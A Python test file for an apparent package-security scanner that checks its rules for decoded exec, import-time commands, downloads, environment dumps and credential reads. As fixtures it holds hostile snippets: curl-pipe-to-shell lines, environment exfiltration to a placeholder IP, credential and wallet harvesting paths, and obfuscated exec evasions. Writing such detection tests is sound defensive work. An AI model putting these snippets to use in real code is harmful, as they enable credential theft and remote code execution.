"""Code rules: decoded exec, import-time behaviour, downloads, dumps, credentials, bytecode, binaries."""

from __future__ import annotations

import base64
import importlib.util
import marshal
import sysconfig
import time
import zlib
from pathlib import Path

import pytest
from corpus import tree_of

from chainproof.deps.files import TargetKind
from chainproof.deps.model import Finding, Severity
from chainproof.deps.rules import code
from chainproof.deps.rules.base import FileRole, ScanContext
from chainproof.deps.rules.code import MAX_PARSE_BYTES, binary_rules, code_rules
from chainproof.deps.rules.hooks import hook_rules
from chainproof.deps.rules.roles import classify
from chainproof.deps.targets.directory import DirectoryTree

P64 = "cHJpbnQoJ2hlbGxvIHdvcmxkJyk="
"""A literal long enough to be a payload (it decodes to `print('hello world')`)."""


def scan(
    tmp_path: Path, files: dict[str, str | bytes], kind: TargetKind = TargetKind.ENVIRONMENT
) -> list[Finding]:
    ctx = ScanContext(tree_of(tmp_path / "t", files, kind), (), {})
    return [*code_rules(ctx), *binary_rules(ctx)]


def rules(found: list[Finding]) -> dict[str, Severity]:
    out: dict[str, Severity] = {}
    for f in found:
        out[f.rule] = max(out.get(f.rule, Severity.INFO), f.severity)
    return out


def in_function(body: str) -> str:
    return "def f():\n" + "".join(f"    {line}\n" for line in body.splitlines())


@pytest.mark.parametrize(
    "payload",
    [
        "exec(base64.b64decode(P))",
        "exec(base64.b32decode(P))",
        "exec(base64.b16decode(P))",
        "exec(base64.b85decode(P))",
        "exec(zlib.decompress(P))",
        "exec(lzma.decompress(P))",
        "exec(bz2.decompress(P))",
        "exec(marshal.loads(P))",
        "exec(codecs.decode(P, 'rot13'))",
        "exec(bytes.fromhex(P))",
        "exec(''.join(chr(c) for c in P))",
        "exec(''.join(map(chr, P)))",
        "exec(bytes([c ^ 7 for c in P]))",
        "exec(P[::-1])",
        "eval(compile(base64.b64decode(P), '<x>', 'exec'))",
        "d = base64.b64decode(P)\ntext = d.decode()\nexec(text)",
        "run = exec\nrun(base64.b64decode(P))",
        "getattr(__builtins__, 'exec')(__import__('base64').b64decode(P))",
        "__builtins__['exec'](base64.b64decode(P))",
        "subprocess.Popen([sys.executable, '-c', base64.b64decode(P).decode()])",
        "subprocess.run(['python', '-c', \"import base64; exec(base64.b64decode('" + P64 + "'))\"])",
    ],
)
def test_decoded_exec_is_caught_in_every_spelling(tmp_path: Path, payload: str) -> None:
    prelude = f"import base64, zlib, lzma, bz2, marshal, codecs, subprocess, sys\nP = '{P64}'\n"
    top = rules(scan(tmp_path / "top", {"pkg/mod.py": prelude + payload + "\n"}))
    inner = rules(scan(tmp_path / "fn", {"pkg/mod.py": prelude + in_function(payload)}))
    assert top.get("code-exec-decoded") is Severity.CRITICAL
    assert inner.get("code-exec-decoded") is Severity.HIGH


def test_decoding_run_time_input_is_only_medium(tmp_path: Path) -> None:
    # py-cpuinfo unpickles base64 sent back by its own child process; IPython evals a reversed list
    # of identifiers. Neither carries a payload, so neither is the technique.
    unpickle = (
        "import base64, pickle\ndef from_child(thing):\n    return pickle.loads(base64.b64decode(thing))\n"
    )
    reverse = "def lookup(ids):\n    name = '.'.join(ids[::-1])\n    return eval(name, {})\n"
    assert rules(scan(tmp_path / "a", {"m.py": unpickle})) == {"code-exec-decoded": Severity.MEDIUM}
    # scikit-learn reloads its own compressed pickle cache: a file, but not one shipped with the code.
    cache = "import pickle, zlib\ndef load(path):\n"
    cache += "    return pickle.loads(zlib.decompress(open(path, 'rb').read()))\n"
    assert rules(scan(tmp_path / "c", {"m.py": cache})) == {"code-exec-decoded": Severity.MEDIUM}
    assert scan(tmp_path / "b", {"m.py": reverse}) == []


def test_a_payload_read_from_a_shipped_file_counts_as_carried(tmp_path: Path) -> None:
    src = "import zlib, os\nHERE = os.path.dirname(__file__)\n"
    src += "exec(zlib.decompress(open(os.path.join(HERE, 'blob.bin'), 'rb').read()))\n"
    assert rules(scan(tmp_path, {"m.py": src}))["code-exec-decoded"] is Severity.CRITICAL


def test_alias_imports_are_followed(tmp_path: Path) -> None:
    src = f"from base64 import b64decode as d\nfrom builtins import exec as run\nrun(d('{P64}'))\n"
    assert rules(scan(tmp_path, {"m.py": src}))["code-exec-decoded"] is Severity.CRITICAL


def test_context_lowers_tests_and_raises_layers(tmp_path: Path) -> None:
    head = f"import base64, zlib\nP = '{P64}'\n"
    src = head + "exec(zlib.decompress(base64.b64decode(P)))\n"
    assert rules(scan(tmp_path / "a", {"pkg/tests/test_x.py": src}))["code-exec-decoded"] is Severity.MEDIUM
    two = rules(
        scan(
            tmp_path / "b",
            {"pkg/m.py": head + in_function("exec(zlib.decompress(base64.b64decode(P)))")},
        )
    )
    assert two["code-exec-decoded"] is Severity.CRITICAL  # a function, but two layers deep


def test_plain_exec_and_compile_are_not_findings(tmp_path: Path) -> None:
    src = (
        "import re\nPAT = re.compile('x')\nsrc = open(__file__).read()\n"
        "exec(compile(src, __file__, 'exec'), {})\nns = {}\nexec('x = 1', ns)\nvalue = eval('1 + 1')\n"
    )
    assert scan(tmp_path, {"m.py": src}) == []


def test_commands_at_import_time(tmp_path: Path) -> None:
    assert rules(
        scan(
            tmp_path / "a",
            {"m.py": "import subprocess\nREV = subprocess.check_output(['git', 'describe'])\n"},
        )
    ) == {"code-exec-at-import": Severity.MEDIUM}
    assert (
        rules(scan(tmp_path / "b", {"m.py": "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"}))[
            "code-exec-at-import"
        ]
        is Severity.CRITICAL
    )
    assert (
        rules(scan(tmp_path / "c", {"m.py": "import os, sys\nos.system(sys.argv[1])\n"}))[
            "code-exec-at-import"
        ]
        is Severity.HIGH
    )
    guarded = "import pty, sys\nif sys.platform != 'win32' and __name__ == '__main__':\n"
    guarded += "    pty.spawn(sys.argv[1:])\n"
    in_def = "import subprocess\ndef run():\n    subprocess.run(['ls'])\n"
    assert scan(tmp_path / "d", {"m.py": guarded, "n.py": in_def}) == []


def test_setup_py_commands(tmp_path: Path) -> None:
    make = (
        "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['make', 'lib'])\nsetup()\n"
    )
    curl = "import os\nos.system('curl https://203.0.113.9/i.sh | sh')\n"
    found = rules(scan(tmp_path / "a", {"proj-1.0/setup.py": make}, TargetKind.SDIST))
    assert found == {"install-time-exec": Severity.MEDIUM}
    assert (
        rules(scan(tmp_path / "b", {"proj-1.0/setup.py": curl}, TargetKind.SDIST))["install-time-exec"]
        is Severity.HIGH
    )


def test_cmdclass_overrides(tmp_path: Path) -> None:
    build_ext = (
        "import subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '.'])\n"
        "setup(cmdclass={'build_ext': B})\n"
    )
    quiet_install = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n        install.run(self)\n        print('done')\n"
        "cmdclass = {'install': I}\nsetup(cmdclass=cmdclass)\n"
    )
    assert "install-cmdclass" not in rules(
        scan(tmp_path / "a", {"p-1/setup.py": build_ext}, TargetKind.SDIST)
    )
    assert rules(scan(tmp_path / "b", {"p-1/setup.py": quiet_install}, TargetKind.SDIST)) == {
        "install-cmdclass": Severity.LOW
    }


@pytest.mark.parametrize(
    "body",
    [
        "data = urllib.request.urlopen('https://203.0.113.9/s').read()\nexec(data)",
        "exec(requests.get('https://203.0.113.9/s').text)",
        "urllib.request.urlretrieve('https://203.0.113.9/b', '/tmp/b')\nos.chmod('/tmp/b', 0o755)\n"
        "subprocess.call(['/tmp/b'])",
        "r = requests.get(URL)\nwith open(path, 'wb') as f:\n    f.write(r.content)\n"
        "subprocess.Popen([path])",
    ],
)
def test_download_and_execute(tmp_path: Path, body: str) -> None:
    prelude = "import os, subprocess, urllib.request, requests\nURL = 'https://203.0.113.9/x'\n"
    found = scan(tmp_path, {"m.py": prelude + in_function(body)})
    hits = [f for f in found if f.rule == "code-download-exec"]
    assert hits
    assert max(f.severity for f in hits) is Severity.HIGH
    assert "203.0.113.9" in hits[0].message  # IOC hint


def test_env_dumps(tmp_path: Path) -> None:
    exfil = (
        "import json, os, requests\ndef f():\n"
        "    requests.post('https://203.0.113.9/c', data=json.dumps(dict(os.environ)))\n"
    )
    at_import = "import os, requests\nrequests.post('https://203.0.113.9/c', json=os.environ.copy())\n"
    benign = (
        "import os, subprocess\ndef run(cmd):\n    env = os.environ.copy()\n    env['LC_ALL'] = 'C'\n"
        "    return subprocess.run(cmd, env=env)\nfor key, value in os.environ.items():\n    print(key)\n"
    )
    assert rules(scan(tmp_path / "a", {"m.py": exfil}))["code-env-dump"] is Severity.HIGH
    assert rules(scan(tmp_path / "b", {"m.py": at_import}))["code-env-dump"] is Severity.CRITICAL
    assert "code-env-dump" not in rules(scan(tmp_path / "c", {"m.py": benign}))


def test_credential_locations(tmp_path: Path) -> None:
    sdk = (
        '"""Reads ~/.aws/credentials, ~/.ssh/config and ~/.kube/config, like the docs say."""\nimport os\n'
        "def path():\n    return os.path.expanduser('~/.aws/credentials')\n"
    )
    harvest = "import os\nPATHS = [os.path.join('~', '.ssh', 'id_rsa'), '~/.aws/credentials',\n"
    harvest += "         'Login Data', 'wallet.dat']\n"
    assert rules(scan(tmp_path / "a", {"m.py": sdk})) == {"code-credential-read": Severity.LOW}
    assert rules(scan(tmp_path / "b", {"m.py": harvest}))["code-credential-read"] is Severity.HIGH
    assert (
        rules(scan(tmp_path / "c", {"p-1/setup.py": harvest}, TargetKind.SDIST))["code-credential-read"]
        is Severity.CRITICAL
    )


def test_credential_reads_weigh_more_than_mentions(tmp_path: Path) -> None:
    sdk_read = "import os\ndef load():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
    early_read = "import os\nKEY = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"
    grab = (
        "import os\nHOME = os.path.expanduser('~')\nTARGETS = ['.ssh/id_rsa', '.aws/credentials']\n"
        "def grab():\n    for rel in TARGETS:\n        path = os.path.join(HOME, rel)\n"
        "        data = open(path).read()\n        open('/tmp/loot', 'a').write(data)\n"
    )
    assert rules(scan(tmp_path / "a", {"m.py": sdk_read})) == {"code-credential-read": Severity.LOW}
    assert rules(scan(tmp_path / "b", {"m.py": early_read}))["code-credential-read"] is Severity.HIGH
    found = [f for f in scan(tmp_path / "c", {"m.py": grab}) if f.rule == "code-credential-read"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert found[0].line == 7  # the read, not the list of names
    assert found[0].message.startswith("reads credential locations (aws, ssh)")


def test_network_at_import(tmp_path: Path) -> None:
    fetch = "import requests\nINDEX = requests.get('https://datasets.example.net/index.json')\n"
    post = "import requests\nrequests.post('https://telemetry.example.net/ping', data={'host': 'x'})\n"
    raw_ip = "import urllib.request\nurllib.request.urlopen('http://203.0.113.9/stage')\n"
    local = "import socket\nsocket.create_connection(('127.0.0.1', 8080))\n"
    later = "import requests\ndef ping():\n    requests.get('https://telemetry.example.net/ping')\n"
    assert rules(scan(tmp_path / "a", {"m.py": fetch})) == {"code-network-at-import": Severity.MEDIUM}
    assert rules(scan(tmp_path / "b", {"m.py": post}))["code-network-at-import"] is Severity.HIGH
    assert rules(scan(tmp_path / "c", {"m.py": raw_ip}))["code-network-at-import"] is Severity.HIGH
    setup = scan(tmp_path / "d", {"p-1/setup.py": fetch}, TargetKind.SDIST)
    assert rules(setup)["code-network-at-import"] is Severity.HIGH
    assert rules(scan(tmp_path / "e", {"m.py": local}))["code-network-at-import"] is Severity.MEDIUM
    assert scan(tmp_path / "f", {"m.py": later}) == []


def test_whitespace_hidden_code(tmp_path: Path) -> None:
    pad = " " * 200
    hidden = f"x = 1{pad};import os;os.system('id')\n"
    quoted = f"TABLE = 'a{pad}b'\n"
    comment = f"x = 1{pad}# aligned comment\n"
    broken = f"def broken(:\n    pass{pad};import os\n"
    assert rules(scan(tmp_path / "a", {"m.py": hidden}))["code-hidden-whitespace"] is Severity.CRITICAL
    in_def = f"import os\ndef f():{pad}os.system('id')\n"
    assert rules(scan(tmp_path / "d", {"m.py": in_def}))["code-hidden-whitespace"] is Severity.CRITICAL
    mixed = "x = 1" + " \t" * 100 + ";import os\n"
    assert rules(scan(tmp_path / "m", {"m.py": mixed}))["code-hidden-whitespace"] is Severity.HIGH
    assert scan(tmp_path / "b", {"m.py": quoted, "n.py": comment}) == []
    assert rules(scan(tmp_path / "c", {"m.py": broken}))["code-hidden-whitespace"] >= Severity.HIGH


def test_bytecode_without_source(tmp_path: Path) -> None:
    pyc = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile("x = 1", "m.py", "exec"))
    env = {
        "pkg/__pycache__/m.cpython-311.pyc": pyc,
        "pkg/__pycache__/ok.cpython-311.pyc": pyc,
        "pkg/ok.py": "x = 1\n",
    }
    found = scan(tmp_path / "a", env)
    assert [(f.path, f.severity) for f in found] == [("pkg/__pycache__/m.cpython-311.pyc", Severity.LOW)]
    wheel = scan(tmp_path / "b", {"pkg/__pycache__/m.cpython-311.pyc": pyc}, TargetKind.WHEEL)
    assert [f.severity for f in wheel] == [Severity.HIGH]
    beside = scan(tmp_path / "c", {"pkg/m.pyc": pyc, "pkg/m.py": "x = 1\n"})
    assert [(f.rule, f.severity) for f in beside] == [("binary-pyc-without-source", Severity.MEDIUM)]


def test_unexpected_binaries(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 64
    pe = b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0" + b"\0" * 32
    files: dict[str, str | bytes] = {
        "pkg/_speedups.cpython-311-x86_64-linux-gnu.so": elf,
        "pkg.libs/libz-1.so.1": elf,
        "bin/tool": elf,
        "pkg/launcher.exe": pe,
        "pkg/readme.txt": elf,
        "pkg/util.py": elf,
        "pkg/helper": elf,
        "pkg/notes.md": b"MZ is not a PE header\n",
    }
    found = {f.path: f.severity for f in scan(tmp_path, files) if f.rule == "binary-unexpected"}
    assert found == {
        "pkg/readme.txt": Severity.HIGH,
        "pkg/util.py": Severity.HIGH,
        "pkg/helper": Severity.MEDIUM,
    }


@pytest.mark.parametrize(
    "content",
    [
        b"x = " + b"(" * 100_000 + b"\n",
        b"x = " + b"-" * 200_000 + b"1\n",
        b"exec(\x00)\n",
        b"\xff\xfe\xfa not utf-8 exec(base64.b64decode(x))\n",
        b"import base64\nexec(base64.b64decode('"
        + b"A" * 100
        + b"'"
        + b"))" * 1
        + b"\n"
        + b"[" * 5000
        + b"\n",
    ],
)
def test_hostile_source_never_crashes(tmp_path: Path, content: bytes) -> None:
    # Above low only where the text names a payload's shape (exec of decoded data): found by the
    # analysis of the lines that parse, or by the search of a file that does not.
    found = scan(tmp_path, {"m.py": content})
    serious = {"code-unparsed-capability", "code-exec-decoded"}
    assert all(f.severity <= Severity.LOW or f.rule in serious for f in found)
    assert (b"b64decode" in content) == any(f.rule in serious for f in found)


def test_webs_of_names_cost_bounded_time(tmp_path: Path) -> None:
    # Each name refers to the previous one four times: following every path would take 4**60 steps.
    lines = ["import base64, os", "a0 = '.ssh/id_rsa'"]
    lines += [f"a{i} = a{i - 1} + a{i - 1} + a{i - 1} + a{i - 1}" for i in range(1, 60)]
    lines += ["exec(base64.b64decode(a59))", "open(a59).read()", "os.system(a59)"]
    started = time.monotonic()
    found = rules(scan(tmp_path, {"m.py": "\n".join(lines) + "\n"}))
    assert time.monotonic() - started < 10
    assert "code-exec-at-import" in found


def test_decompression_bombs_cost_bounded_time(tmp_path: Path) -> None:
    bomb = base64.b64encode(zlib.compress(b"x = 1\n" * 2_000_000)).decode()  # 12 MB of code each
    src = "import base64, zlib\n" + "".join(
        f"exec(zlib.decompress(base64.b64decode('{bomb}')))\n" for _ in range(40)
    )
    started = time.monotonic()
    found = rules(scan(tmp_path, {"m.py": src}))
    assert time.monotonic() - started < 20
    assert found["code-exec-decoded"] is Severity.CRITICAL


def test_oversized_source_is_reported_not_parsed(tmp_path: Path) -> None:
    big = b"x = 1\n" * (MAX_PARSE_BYTES // 6 + 1)
    assert [(f.rule, f.severity) for f in scan(tmp_path, {"m.py": big})] == [("code-unparsed", Severity.LOW)]


def test_decoded_payloads_are_analysed_for_hosts_without_running(tmp_path: Path) -> None:
    inner = base64.b64encode(
        b"import urllib.request\nurllib.request.urlopen('https://c2.example.org/x')"
    ).decode()
    found = scan(tmp_path, {"m.py": f"import base64\nexec(base64.b64decode('{inner}'))\n"})
    assert any("c2.example.org" in f.message for f in found if f.rule == "code-exec-decoded")


@pytest.mark.parametrize(
    ("path", "kind", "role"),
    [
        ("x.pth", TargetKind.ENVIRONMENT, FileRole.STARTUP_HOOK),
        ("pkg/x.pth", TargetKind.ENVIRONMENT, FileRole.OTHER),
        ("sitecustomize.py", TargetKind.ENVIRONMENT, FileRole.STARTUP_HOOK),
        ("a.start", TargetKind.ENVIRONMENT, FileRole.STARTUP_HOOK),
        ("p-1.data/purelib/x.pth", TargetKind.WHEEL, FileRole.STARTUP_HOOK),
        ("p-1/setup.py", TargetKind.SDIST, FileRole.INSTALL_SCRIPT),
        ("p-1/src/p/hook.pth", TargetKind.SDIST, FileRole.STARTUP_HOOK),
        ("p-1/tests/fixtures/hook.pth", TargetKind.SDIST, FileRole.OTHER),
        ("p-1/docs/setup.py", TargetKind.SDIST, FileRole.MODULE),
        ("pkg/tests/helpers.py", TargetKind.ENVIRONMENT, FileRole.TEST),
        ("pkg/test_x.py", TargetKind.ENVIRONMENT, FileRole.TEST),
        ("pkg/conftest.py", TargetKind.ENVIRONMENT, FileRole.TEST),
        ("pkg/testing/utils.py", TargetKind.ENVIRONMENT, FileRole.MODULE),
        ("pkg/core.py", TargetKind.ENVIRONMENT, FileRole.MODULE),
        ("pkg/data.json", TargetKind.ENVIRONMENT, FileRole.OTHER),
        # Only real test, benchmark and tooling paths lower a severity: a file whose own name no
        # import can name is a script of the source tree, but a folder whose name is no identifier
        # can still be installed as a package (package_dir maps it), and malware uses one.
        ("p-1/tools/pre-commit-hook.py", TargetKind.SDIST, FileRole.TEST),
        ("p-1/vendored-meson/meson/test cases/common/gen.py", TargetKind.SDIST, FileRole.TEST),
        ("pkg/manual tests/run.py", TargetKind.WHEEL, FileRole.TEST),
        ("p-1/vendored-meson/meson/mpackage.py", TargetKind.SDIST, FileRole.MODULE),
        ("p-1/benchmarks/asv_pip.py", TargetKind.SDIST, FileRole.TEST),
        ("p-1/src/p-impl/core.py", TargetKind.SDIST, FileRole.MODULE),
        ("p-1/p-utils/__init__.py", TargetKind.SDIST, FileRole.MODULE),
        ("p-1/src/p/core.py", TargetKind.SDIST, FileRole.MODULE),
        ("p-1/tools/release.py", TargetKind.SDIST, FileRole.MODULE),
        ("pkg/odd-name.py", TargetKind.ENVIRONMENT, FileRole.MODULE),
        ("pkg/benchmarks/run.py", TargetKind.WHEEL, FileRole.MODULE),
    ],
)
def test_roles(path: str, kind: TargetKind, role: FileRole) -> None:
    assert classify(path, kind) is role


@pytest.mark.slow
def test_the_projects_own_environment_has_no_high_findings() -> None:
    # Real data, not a fixture: every .py and .pth file installed for this project's tooling.
    site = Path(sysconfig.get_paths()["purelib"])
    ctx = ScanContext(DirectoryTree(site), (), {})
    found = [*hook_rules(ctx), *code_rules(ctx), *binary_rules(ctx)]
    high = [(f.rule, f.path) for f in found if f.severity >= Severity.HIGH]
    assert high == []


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import os as o\no.system('curl -s http://203.0.113.9/x | sh')\n", "code-exec-at-import"),
        (
            f"from pickle import loads as L\nfrom base64 import b64decode\nL(b64decode('{P64}'))\n",
            "code-exec-decoded",
        ),
        (f"import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('{P64}'))\n", "code-exec-decoded"),
        (
            f"import base64\n\U0001d41e\U0001d431\U0001d41e\U0001d41c(base64.b64decode('{P64}'))\n",
            "code-exec-decoded",
        ),
        (
            "import os\n"
            "open(os.path.expanduser('~/.config/Atomic/Local Storage/leveldb/000003.log')).read()\n",
            "code-credential-read",
        ),
        (
            f"D = {[b ^ 7 for b in b'print(1); print(2); print(3)']}\n"
            "exec(bytearray(c ^ 7 for c in D).decode())\n",
            "code-exec-decoded",
        ),
        (f"P = {P64[::-1]!r}\nimport base64\nexec(base64.b64decode(P[:: -1]))\n", "code-exec-decoded"),
        (
            "import socket\ngetattr(socket, 'create_connection')(('203.0.113.9', 80))\n",
            "code-network-at-import",
        ),
        ("__import__('requests').post('http://203.0.113.9/c', data=b'x')\n", "code-network-at-import"),
        ("import requests\n(requests\n .get)('http://203.0.113.9/c')\n", "code-network-at-import"),
        (
            f"import builtins as re, base64\nexec(re.compile(base64.b64decode('{P64}'), 'm', 'exec'))\n",
            "code-exec-decoded",
        ),
        (
            "import os\nH = os.path.expanduser('~')\n"
            "for p in (os.path.join(H, '.kube', 'config'), f'{H}/.ssh{os.sep}config'):\n"
            "    open(p).read()\n",
            "code-credential-read",
        ),
        (f"D = {list(b'print(1); print(2); print(3)')}\nexec(''.join(map(chr, D)))\n", "code-exec-decoded"),
        (f"P = {P64[::-1]!r}\nexec(P[: :-1])\n", "code-exec-decoded"),
    ],
    ids=[
        "os-alias",
        "loads-alias",
        "fullwidth-exec",
        "math-bold-exec",
        "atomic-wallet",
        "bytearray-xor",
        "spaced-reverse",
        "getattr-socket",
        "dunder-import-requests",
        "bracketed-attribute",
        "builtins-named-re",
        "joined-credential-paths",
        "map-chr",
        "spaced-colons",
    ],
)
def test_the_parse_prefilter_does_not_let_evasions_through(tmp_path: Path, source: str, rule: str) -> None:
    """Spellings that dodge the substring prefilter's words still get the file parsed."""
    assert rule in rules(scan(tmp_path, {"m.py": source}))


def _findings_both_ways(data: bytes) -> tuple[list[Finding], list[Finding]]:
    where = code.Where("m.py", FileRole.MODULE, "pkg", "1", tuple(data.splitlines()))
    found = []
    for skip in (False, True):
        analysis = code.analyze_source(data, skip_quiet=skip)
        found.append([] if analysis is None else list(code.findings_for(where, analysis)))
    return found[0], found[1]


@pytest.mark.parametrize(
    "alias",
    [
        "run = exec",
        "from pickle import loads as run",
        "from builtins import exec as run",
        "import builtins as b\nrun = b.exec",
    ],
)
def test_a_function_body_calling_a_renamed_sink_is_walked(alias: str) -> None:
    """`run(P)` names no word the prefilter knows; the new name for the sink does."""
    source = (
        f"import base64\n{alias}\nP = base64.b64decode('{P64}')\nclass K:\n    def m(self):\n        run(P)\n"
    )
    full, skipped = _findings_both_ways(source.encode())
    assert [f.rule for f in full] == ["code-exec-decoded"]
    assert skipped == full


def test_skipping_quiet_function_bodies_keeps_what_flows_across_them() -> None:
    """Bodies that open files, import, name hosts or define classes are walked."""
    source = (
        "import os\n"
        "def key():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "def save(x):\n    with open('/tmp/out', 'w') as f:\n        f.write(x)\n"
        "def where():\n    return 'https://203.0.113.7/collect'\n"
        "def helper(v):\n    return v + 1\n"
    )
    full, skipped = _findings_both_ways(source.encode())
    assert skipped == full
    assert full


def test_keys_and_codec_names_are_not_payloads(tmp_path: Path) -> None:
    """A dict key or a codec name passed as a literal is not carried data (apscheduler, keras)."""
    keyed = in_function(
        "import pickle\nfrom base64 import b64decode\n"
        "return pickle.loads(b64decode(dct.get('__apscheduler_pickle__')))"
    )
    assert rules(scan(tmp_path / "a", {"m.py": keyed}))["code-exec-decoded"] is Severity.MEDIUM
    codec = in_function("import marshal\nraw = code.encode('raw_unicode_escape')\nreturn marshal.loads(raw)")
    assert (
        rules(scan(tmp_path / "b", {"m.py": codec})).get("code-exec-decoded", Severity.INFO)
        <= Severity.MEDIUM
    )
    carried = f"import codecs\nP = '{P64}'\nexec(codecs.decode(P.encode('ascii'), 'base64'))\n"
    assert rules(scan(tmp_path / "c", {"m.py": carried}))["code-exec-decoded"] is Severity.CRITICAL
